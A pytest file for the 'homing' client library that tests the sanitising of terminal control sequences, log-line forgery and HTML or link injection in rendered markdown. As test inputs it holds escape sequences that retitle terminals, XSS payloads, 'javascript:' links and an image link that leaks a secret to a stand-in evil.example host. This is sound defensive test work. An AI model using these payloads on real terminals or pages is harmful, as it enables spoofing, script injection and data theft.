"""What others say is data: nothing of it acts on a terminal, or forges a line of a log."""

from __future__ import annotations

import contextlib
import inspect
import io
import json
import logging
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import pytest

import homing
from homing.cli.app import homing as command_line
from homing.cli.chat.markdown import Block
from homing.cli.output import columns
from homing.core.conversation.transcript import make_turn
from homing.core.errors.server_errors import excerpt
from homing.core.telemetry.measurements import Telemetry
from homing.core.text.control_characters import one_line, strip_controls
from homing.core.text.markdown import sanitize_markdown
from homing.integrations._markdown_view import LiveMarkdown, summary, turns_table
from homing.reply import Reply
from homing.stores import SQLiteStore
from homing.types import ChatCompletion
from homing.types.events import ContentDelta
from homing_server.local import Edge

from ..cli.command import homing as run
from ..cli.terminal import Terminal
from .hostile import EVIL, FORBIDDEN, ONE_LINE, Hostile, hostile

HALF = "\ud83d"
FOREIGN_ID = f"id{EVIL}".replace(HALF, "").replace("\x00", "")


@pytest.fixture(scope="module")
def wild() -> Iterator[Hostile]:
    with hostile() as server:
        yield server


@pytest.fixture
def server(wild: Hostile) -> Hostile:
    wild.status, wild.cold, wild.cut = 200, False, False
    return wild


def assert_clean(text: str, *, styled: bool = False) -> None:
    """Nothing that a terminal obeys; ``styled``: but for colours and cursor movements of our own."""
    for one in FORBIDDEN:
        if not (styled and one == "\x1b"):
            assert one not in text, (one, text)
    for sequence in ("\x1b]", "\x1bP", "\x1b[2J"):
        assert sequence not in text, text


# -- the functions --------------------------------------------------------------------------------


def test_what_goes_and_what_stays() -> None:
    assert strip_controls("a\tb\nc é 漢 👩\u200d👧 \u200c") == "a\tb\nc é 漢 👩\u200d👧 \u200c"
    for number in (*range(32), *range(127, 160), 0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x2070)):
        one = chr(number)
        assert strip_controls(f"<{one}>") == (f"<{one}>" if one in "\t\n" else "<>"), hex(number)
    for line_end in ("\n", "\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\t"):
        assert one_line(f"a{line_end}b") == "a b", line_end
    assert strip_controls("\ud83d") == "\ufffd"
    assert strip_controls("👩") == "👩"


def test_it_is_the_same_piece_by_piece() -> None:
    text = f"Some {EVIL} and more"
    assert "".join(map(strip_controls, text)) == strip_controls(text)
    assert_clean(strip_controls(text))


def test_cells_of_a_table_stay_in_their_columns() -> None:
    assert columns([(f"a{EVIL}\nb", "c"), ("d", "e")])[1].startswith("d ")
    assert_clean("".join(columns([(ONE_LINE, ONE_LINE)])))
    assert len("".join(columns([(ONE_LINE, "x")])).splitlines()) == 1


def test_an_excerpt_is_cut_behind_the_cleaning() -> None:
    assert excerpt("\x1b" * 400 + "the point") == "the point."


# -- errors and logs ------------------------------------------------------------------------------


def every_error() -> list[type[homing.HomingError]]:
    found: list[type[homing.HomingError]] = []
    waiting: list[type[homing.HomingError]] = [homing.HomingError]
    while waiting:
        kind = waiting.pop()
        if kind.__module__ == "homing.errors":
            found.append(kind)
            waiting += kind.__subclasses__()
    return found


COMPLETION = ChatCompletion.model_validate({"id": "c", "created": 0, "model": "m", "choices": []})
EXTRA: dict[str, Any] = {"status_code": 400, "waited": 1.0, "attempts": 1, "last": None, "expected": 1, "found": 2}


@pytest.mark.parametrize("kind", every_error(), ids=lambda kind: kind.__name__)
def test_each_error_is_a_line_for_a_log(kind: type[homing.HomingError]) -> None:
    names = inspect.signature(kind).parameters
    given = {name: EXTRA[name] for name in names if name in EXTRA}
    if "completion" in names:
        given["completion"] = COMPLETION
    error = kind(f"broken: {ONE_LINE}", **given)
    assert_clean(str(error))
    assert str(error).startswith("broken: ")
    if kind is not homing.ToolError:  # whose words are for the model, in as many lines as it takes
        assert len(str(error).splitlines()) == 1
    if isinstance(error, homing.APIError):
        assert error.message == str(error)


def test_what_a_tool_says_to_the_model_keeps_its_lines() -> None:
    assert str(homing.ToolError("no such part.\nThere are: a, b")) == "no such part.\nThere are: a, b"


def test_errors_notices_and_log_lines(server: Hostile, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG, "homing")
    server.status = 500
    notices: list[Any] = []
    hooks = homing.Hooks(on_retry=notices.append, on_error=notices.append)
    with homing.Client(server.url, model="m", max_retries=1, hooks=hooks) as client:
        with pytest.raises(homing.InternalServerError) as caught:
            client.conversation().send("Hello?")
        assert "boom" in str(caught.value)
        assert len(str(caught.value).splitlines()) == 1
        assert_clean(str(caught.value))
        assert isinstance(caught.value.body, dict)
        assert "\x1b]0;" in caught.value.body["error"]["message"], "what a program reads is as it came"
        server.status, server.cut = 200, True
        with pytest.raises(homing.APIError) as broken:
            client.conversation().send("Hello?")
        assert len(str(broken.value).splitlines()) == 1
        assert_clean(str(broken.value))
        assert "\x1b]0;" in broken.value.partial_text
        server.cut = False
        reply = client.conversation().send("Hello?")
        assert "\x1b]0;" in reply.text
        assert reply.telemetry.replica == "r131m0;PWNED "
    assert notices
    for line in [*caplog.messages, *map(str, notices)]:
        assert_clean(line)
        assert len(line.splitlines()) == 1


def test_a_name_that_a_model_made_up_for_a_tool(caplog: pytest.LogCaptureFixture, edge: Edge) -> None:
    from homing.testing import Answer, ToolCall

    def look(at: str) -> str:
        """Look."""
        raise homing.ToolError(f"cannot see {at}")

    edge.answer_next(Answer(tool_calls=[ToolCall(ONE_LINE.replace(HALF, ""), {"at": EVIL[:-1]})]), "Never mind.")
    with homing.Client(edge.url) as client:
        reply = client.conversation().run("Look!", tools=[look])
        (told,) = [message["content"] for message in reply.messages if message["role"] == "tool"]
    assert "there is no tool" in told
    assert len(told.splitlines()) == 1
    assert_clean(told)
    for line in caplog.messages:
        assert_clean(line)


# -- the command line -----------------------------------------------------------------------------

COMMANDS = {
    "status": ["status"],
    "status --json": ["status", "--json"],
    "wait": ["wait"],
    "doctor": ["doctor", "--probes", "1"],
    "doctor --json": ["doctor", "--probes", "1", "--json"],
    "bench": ["bench", "--conversations", "1", "--turns", "1", "--warm-up", "0", "--think", "0", "0", "--ramp", "0"],
    "chat": ["chat", "--private", "Hello?"],
    "chat --plain": ["chat", "--private", "--plain", "Hello?"],
    "chat --json": ["chat", "--private", "--json", "Hello?"],
}


@pytest.mark.parametrize("state", ["well", "refusing", "cut"])
@pytest.mark.parametrize("name", COMMANDS)
def test_commands_at_a_terminal(server: Hostile, name: str, state: str, tmp_path: Path) -> None:
    server.status, server.cut = 400 if state == "refusing" else 200, state == "cut"
    with Terminal(columns=200) as terminal:
        terminal.run(*COMMANDS[name], HOMING_BASE_URL=server.url, HOMING_CHATS=str(tmp_path / "chats.db"))
        written = terminal.written.rpartition(b"\x1b]2;")[0].decode()
    assert written.strip()
    assert_clean(written, styled=True)


@pytest.mark.parametrize("state", ["well", "refusing", "cut"])
@pytest.mark.parametrize("name", [name for name in COMMANDS if name not in ("chat", "chat --plain")])
def test_commands_in_a_pipe(server: Hostile, name: str, state: str) -> None:
    server.status, server.cut = 400 if state == "refusing" else 200, state == "cut"
    done = run(*COMMANDS[name], HOMING_BASE_URL=server.url)
    assert (done.stdout + done.stderr).strip()
    assert_clean(done.stdout + done.stderr)


def test_a_bare_answer_in_a_pipe_is_as_it_came(server: Hostile) -> None:
    done = run("chat", "--private", "Hello?", HOMING_BASE_URL=server.url)
    assert "\x1b]0;PWNED\x07" in done.stdout
    assert_clean(done.stderr)


def test_json_loses_nothing(server: Hostile) -> None:
    done = run("chat", "--private", "--json", "Hello?", HOMING_BASE_URL=server.url)
    assert "Said \x1b]0;PWNED\x07" in json.loads(done.stdout)["text"]
    assert "\x9b31m" in json.loads(done.stdout)["text"]
    assert "\u202eevil" in json.loads(done.stdout)["text"]


def test_waiting_says_no_word_of_the_server(server: Hostile) -> None:
    server.cold = True
    for command in (["status"], ["wait", "--timeout", "0.1"], ["doctor", "--timeout", "0.1"]):
        done = run(*command, HOMING_BASE_URL=server.url)
        assert done.returncode
        assert_clean(done.stdout + done.stderr)


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    """A file of conversations that somebody else has written to."""
    path = tmp_path / "chats.db"
    said = EVIL.replace(HALF, "")
    messages = [{"role": "user", "content": said}, {"role": "assistant", "content": said}]
    header = {"format": 1, "metadata": {"title": ONE_LINE.replace(HALF, "")}}
    with SQLiteStore(path) as store:
        store.commit("mine", expected_version=0, turns=[{"messages": messages}], header=header)
        store.commit("other", expected_version=0, header=header)
    with contextlib.closing(sqlite3.connect(path)) as raw, raw:
        raw.execute("update homing_conversations set id = ? where id = 'other'", (FOREIGN_ID,))
    return path


def test_conversations_that_others_have_named(kept: Path, server: Hostile) -> None:
    for options in (["--list"], ["--list", "--json"], ["--id", FOREIGN_ID, "Hello?"], ["--delete", FOREIGN_ID[1:]]):
        done = run("chat", *options, HOMING_CHATS=str(kept), HOMING_BASE_URL=server.url)
        assert_clean(done.stdout + done.stderr)
    assert len(run("chat", "--list", HOMING_CHATS=str(kept)).stdout.splitlines()) == 3


def test_a_conversation_at_the_terminal(kept: Path, server: Hostile, tmp_path: Path) -> None:
    with Terminal(columns=200, lines=60) as terminal:
        environment = {"HOMING_CHATS": str(kept), "HOMING_BASE_URL": server.url, "XDG_CONFIG_HOME": str(tmp_path)}
        with terminal.process("chat", "--id", "mine", **environment) as process:
            terminal.wait_for("mine; /help")
            for typed, seen in (("/list", "last used"), ("/stats", "affinity key"), ("Hello?", "r131m")):
                terminal.type(f"{typed}\r")
                terminal.wait_for(seen)
            server.status = 400
            terminal.type("Again?\r")
            terminal.wait_for("boom")
            written = terminal.written.decode()
            process.kill()
    assert_clean(written.replace("\x08", ""), styled=True)  # the line being typed goes back by it


def test_what_clients_send_to_the_edge_is_printed_as_text(tmp_path: Path) -> None:
    from ..edge.test_cli_up import up

    with up("--warm", "--decode-rate", "0") as edge:
        import httpx

        httpx.get(edge.url + "/%1b%5d0;PWNED%07%c2%9b31m%0aforged%e2%80%ae", headers={"Modal-Session-ID": "k"})
        line = edge.read_until("PWNED")
    assert "forged" in line
    assert_clean(line)


def test_file_names_in_messages(tmp_path: Path, server: Hostile) -> None:
    folder = tmp_path / "x\x1b]0;PWNED\x07\u202e"
    folder.mkdir()
    done = run("chat", "--store", str(folder), "Hello?", HOMING_BASE_URL=server.url)
    assert done.returncode
    assert_clean(done.stdout + done.stderr)


def test_characters_that_markdown_has_names_for() -> None:
    from rich.console import Console

    console = Console(file=io.StringIO(), record=True, width=80)
    console.print(Block("a &rlm; &lrm; &#8238; &#x202e; &#x9b; &#27; &#x2066; [x](https://e.com/&#8238;)"))
    assert_clean(console.export_text())


def test_commands_print_in_one_place_only() -> None:
    source = Path(homing.__file__).parent / "cli"
    for path in source.rglob("*.py"):
        if path.name != "output.py":
            assert "click.echo" not in path.read_text(), path
            assert "click.secho" not in path.read_text(), path
    assert isinstance(command_line, click.Group)


# -- notebooks ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a </div><!-- x --><?php ?><svg/onload=alert(1)>",
        " ```\n```\n<img src=x onerror=alert(1)>\n```",
        "- ```\n  ```\n```\n<img src=x onerror=alert(1)>\n```\n<b>",
        "> ```\n\n```\n<img src=x onerror=alert(1)>",
        "````\n```\n````\n<img src=x onerror=alert(1)>",
        "```\nx\n   ```  \n<img src=x onerror=alert(1)>",
        "~~~\n```\n~~~\n<img src=x onerror=alert(1)>",
        "``` `\n<img src=x onerror=alert(1)>",
        "x\r```\r```\r<img src=x onerror=alert(1)>",
        "`<img src=x onerror=alert(1)>",
    ],
)
def test_no_html_acts_in_a_notebook(attack: str) -> None:
    from markdown_it import MarkdownIt

    parsed = MarkdownIt("commonmark").parse(sanitize_markdown(attack))
    tokens = [inner for token in parsed for inner in (token, *(token.children or ()))]
    assert not [token for token in tokens if token.type in ("html_block", "html_inline")]
    assert "alert" in "".join(token.content for token in tokens) or "alert" not in attack


@pytest.mark.parametrize(
    "attack",
    [
        "[x](javascript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x]( <javascript:alert(1)>)",
        "[x][a]\n\n[a]: javascript:alert(1)",
        "[x][a]\n\n[a]:\njavascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][a]\n\n[a]: https://evil.example/?q=secret",
    ],
)
def test_no_link_acts_and_no_picture_loads_in_a_notebook(attack: str) -> None:
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark")
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # as careless as a renderer can be
    for token in parser.parse(sanitize_markdown(attack)):
        for inner in token.children or ():
            assert inner.type != "image"
            assert str(inner.attrs.get("href", "https://")).startswith("https://")


def test_ordinary_markdown_looks_as_ever() -> None:
    text = "# Hi\n\n```html\n<b>bold</b>\n```\n\n[a](https://example.com) 1 < 2, a <- b"
    text += "\n\n- x\n- [ ] y\n\n| a |\n|---|\n| b |"
    assert sanitize_markdown(text) == text
    assert sanitize_markdown("`<b>`").replace("\u200b", "") == "`<b>`"


def test_what_a_notebook_shows_is_harmless() -> None:
    growing = LiveMarkdown()
    growing.take(ContentDelta("<script>"))
    growing.take(ContentDelta("alert(1)</script>"))
    assert "<script" not in growing.markdown
    told = Telemetry(replica="r1|<img src=x>\nforged", verdict="warm")
    assert "<img" not in summary(told)
    (_, _, row) = turns_table([make_turn([], "stop", told)]).splitlines()
    assert "<img" not in row
    assert row.replace("\\|", "").count("|") == 8
    attack = {"content": "<script>alert(1)</script>"}
    assert "<script" not in Reply(attack, "stop", told, COMPLETION)._repr_markdown_()
    with homing.Client("http://127.0.0.1:9", model="m") as client:
        chat = client.conversation(system="<script>alert(1)</script>")
        assert "<script" in chat.transcript()
        assert "<script" not in chat._repr_markdown_()
